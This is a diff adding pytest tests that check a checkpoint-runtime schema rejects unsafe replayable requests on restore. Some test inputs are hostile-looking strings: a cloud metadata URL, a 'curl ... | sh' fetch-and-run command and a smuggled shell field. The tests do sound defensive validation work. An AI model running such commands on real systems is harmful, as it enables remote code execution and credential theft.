@@ -191,3 +191,47 @@ def test_socket_dirs_are_scratch_folders_of_format_two():
         Runtime.from_json({**doc, "socket_dirs": ["/etc/cron.d"]})
     with pytest.raises(SchemaError, match=r"runtime\.socket_dirs: are for host-process checkpoints of format 2"):
         Runtime.from_json({**doc, "format": 1})
+
+
+ANSWER = {"status": 200, "bytes": 11, "sha256": "0" * 64, "head": '{"y": 42.0}'}
+
+
+def test_check_requests_round_trip_with_their_answers():
+    checks = [{"http": "POST /infer", "body": '{"x": 1}', "headers": {}, "answer": ANSWER}]
+    doc = {**host_runtime(), "format": 2, "verify": checks}
+    assert Runtime.from_json(doc).to_json() == doc
+    assert "verify" not in host_runtime(), "format 1 has none"
+
+
+@pytest.mark.parametrize("check,message", [
+    ({"http": "GET http://169.254.169.254/latest/meta-data/", "answer": ANSWER},
+     r"verify\[0\]\.http: is not a request to the server"),
+    ({"run": "curl -s example.org | sh", "answer": ANSWER}, r"verify\[0\]\.http: is not a request to the server"),
+    ({"http": "GET /x", "repeat": 3, "answer": ANSWER}, r"verify\[0\]\.http: is not a request to the server"),
+    ({"http": "GET /x"}, r"verify\[0\]\.answer: is not an object"),
+    ({"http": "GET /x", "answer": {**ANSWER, "sha256": "abc"}}, r"verify\[0\]\.answer\.sha256: 'abc' does not match"),
+    ({"http": "GET /x", "answer": {**ANSWER, "head": "x" * 1000}}, r"verify\[0\]\.answer\.head: is longer"),
+    ({"http": "GET /x", "answer": ANSWER, "shell": "id"}, r"verify\[0\]\.shell: is not a field"),
+])
+def test_a_check_request_goes_to_the_server_and_carries_an_answer(check, message):
+    """A runner replays these on every restore: from a hostile snapshot, they must not
+    reach another host or carry anything but a request and its expected answer."""
+    with pytest.raises(SchemaError, match=message):
+        Runtime.from_json({**host_runtime(), "format": 2, "verify": [check]})
+    with pytest.raises(SchemaError, match=r"runtime\.verify: is for checkpoints of format 2"):
+        Runtime.from_json({**host_runtime(), "verify": [{"http": "GET /x", "answer": ANSWER}]})
+
+
+@pytest.mark.parametrize("item,message", [
+    ({"url": "/x"}, r"after_restore\[0\]\.url: is not a field of an exercise"),
+    ({}, r"after_restore\[0\]: an exercise needs exactly one of http, run"),
+    ({"http": "POST /wake_up", "run": "true"}, r"after_restore\[0\]: an exercise needs exactly one of http, run"),
+    ({"http": "POST /wake_up", "repeat": 0}, r"after_restore\[0\]\.repeat: is not a positive count"),
+    ({"http": "POST /wake_up", "headers": {"X": 1}}, r"after_restore\[0\]\.headers: does not map strings"),
+])
+def test_after_restore_items_are_checked_as_exercises(item, message):
+    """Once read unchecked, a malformed item reached the runner as a KeyError."""
+    with pytest.raises(SchemaError, match=message):
+        Runtime.from_json({**host_runtime(), "after_restore": [item]})
+    good = {**host_runtime(), "after_restore": [{"http": "POST /wake_up", "headers": {}, "repeat": 1}]}
+    assert Runtime.from_json(good).to_json() == good
